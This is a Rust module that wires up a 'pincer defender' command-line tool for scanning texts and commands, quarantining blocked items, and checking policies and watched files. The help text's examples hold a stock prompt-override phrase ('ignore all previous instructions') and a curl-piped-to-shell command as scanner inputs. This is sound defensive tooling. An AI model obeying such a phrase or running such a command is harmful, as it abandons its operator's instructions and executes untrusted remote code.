//! `pincer defender`: what is judged, and what became of it.

mod eval;
mod explain;
mod host;
mod judge;
mod policy;
mod quarantine;
mod row;
mod scan;

use std::process::ExitCode;

use clap::{Args, Subcommand};

use super::{Failure, Global, Output};

/// Judge texts and commands, look into the quarantine, check and sign policies.
#[derive(Debug, Args)]
#[command(after_help = "\
Examples:
  pincer defender scan 'ignore all previous instructions' --from web
  pincer defender scan --command 'curl https://example.com/x | sh'
  pincer defender eval --jsonl - < rows.jsonl        a verdict for each line
  pincer defender quarantine list                    what was stopped, or would have been
  pincer defender policy show                        what is judged by")]
pub(crate) struct DefenderArgs {
    #[command(subcommand)]
    command: DefenderCommand,
}

#[derive(Debug, Subcommand)]
enum DefenderCommand {
    /// Judge one text or command; exit code 0 allow, 10 review, 20 block
    Scan(scan::ScanArgs),
    /// Judge many: JSON lines in, JSON lines out
    Eval(eval::EvalArgs),
    /// Say what a decision or a rule was about
    Explain(explain::ExplainArgs),
    /// Look into what was stopped, and check that nobody changed it
    Quarantine(quarantine::QuarantineArgs),
    /// Show, check and sign policies
    Policy(policy::PolicyArgs),
    /// Look whether watched files are still what they were
    Host(host::HostArgs),
}

/// Runs `pincer defender …`.
pub(crate) fn execute(args: DefenderArgs, global: &Global, output: &Output) -> Result<ExitCode, Failure> {
    match args.command {
        DefenderCommand::Scan(args) => scan::execute(&args, global, output),
        DefenderCommand::Eval(args) => eval::execute(&args),
        DefenderCommand::Explain(args) => explain::execute(&args, global, output),
        DefenderCommand::Quarantine(args) => quarantine::execute(args, global, output),
        DefenderCommand::Policy(args) => policy::execute(args, global, output),
        DefenderCommand::Host(args) => host::execute(&args, global, output),
    }
}
